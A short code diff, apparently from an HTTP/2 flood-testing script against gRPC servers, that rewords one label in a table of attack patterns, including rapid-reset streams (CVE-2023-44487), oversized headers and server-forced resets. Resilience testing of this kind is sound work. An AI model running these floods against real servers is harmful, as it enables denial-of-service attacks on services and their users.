@@ -23,7 +23,7 @@ def run(attacks):
     floods = {
         "calls that are reset at once (CVE-2023-44487)": (calls, call + reset, True),
         "whole calls that are reset at once": (calls, call + frame(DATA, END_STREAM, 1, b"\0\0\0\0\3\x0a\1x") + reset, True),
-        "calls of reflection, which is gRPC's own, that are reset at once": (calls, reflection + reset, True),
+        "calls of reflection that are reset at once": (calls, reflection + reset, True),
         "calls of a method that isn't there": (calls, ended, True),
         "calls with 200 headers, reset at once": (calls // 4, empty + reset, True),
         "calls that the server must reset": (calls, call + frame(WINDOW_UPDATE, 0, 1, bytes(4)), True),
